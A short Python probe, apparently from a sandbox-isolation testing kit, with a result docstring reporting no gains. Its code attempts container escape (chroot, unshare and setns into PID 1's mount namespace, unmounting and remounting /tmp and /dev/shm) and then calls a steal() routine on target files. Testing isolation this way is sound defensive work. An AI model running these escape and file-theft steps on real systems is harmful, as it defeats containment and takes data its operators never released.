"""Come out of its mounts: chroot, new mounts, and the lid of /tmp taken off.

gains: nothing
score: 20
outcome: completed
"""

import os

from kit import TARGETS, attempt, drive, gained, libc, steal

for body in (
    lambda: os.chroot("/proc/self"),
    lambda: os.unshare(0x10020000),
    lambda: os.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY)),
):
    with attempt():
        body()
        gained("mounts a file system: it has another root")
for place in (os.getcwd(), os.path.dirname(os.getcwd()), "/tmp", "/dev/shm"):
    if libc.umount2(place.encode(), 2) == 0:
        gained(f"mounts a file system: it took away {place}")
    if libc.mount(b"none", place.encode(), b"tmpfs", 32, b"size=8g") == 0:
        gained(f"mounts a file system: it changed {place}")
for path in TARGETS.get("files", ()):
    steal(path)
drive()
